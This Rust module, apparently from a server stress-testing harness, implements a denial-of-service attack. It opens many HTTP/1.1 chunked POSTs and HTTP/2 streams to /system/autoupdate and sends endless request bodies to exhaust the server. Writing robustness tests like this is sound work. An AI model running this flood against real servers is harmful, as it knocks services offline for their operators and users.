//! Request bodies without end beside a stream, over both versions of HTTP.

use super::super::attacker::{Attacker, Sent, end, send};
use super::super::ends::Ends;
use super::super::frames::{DATA, frame, post};
use super::super::http2::Connection;

/// How much goes out with one write, in bytes.
const PART_BYTES: usize = 8 * 1024;

/// Asks for streams by requests with a body, and sends it as long as somebody takes it.
pub(super) async fn attack(attacker: &Attacker) -> Ends {
    let half = Attacker { count: attacker.count.div_ceil(2), ..attacker.clone() };
    let http1 = half.with_each(|attacker, mut stream| async move {
        let head = format!("{}Transfer-Encoding: chunked\r\n\r\n", attacker.head("POST", "/system/autoupdate"));
        send(&mut stream, head.as_bytes()).await;
        let part = format!("{PART_BYTES:x}\r\n{}\r\n", "x".repeat(PART_BYTES));
        while !attacker.is_over() && send(&mut stream, part.as_bytes()).await == Sent::Taken {
            tokio::task::yield_now().await;
        }
        end(&attacker, &mut stream).await.into()
    });
    let http2 = half.with_each(|attacker, stream| async move {
        let mut connection = Connection::begin(attacker, stream, &[]).await;
        connection.send(&post(1, "/system/autoupdate")).await;
        let part = frame(DATA, 0, 1, vec![b'x'; PART_BYTES]);
        connection.flood(|_| part.clone()).await
    });
    let (mut ends, http2) = tokio::join!(http1, http2);
    ends.merge(http2);
    ends
}
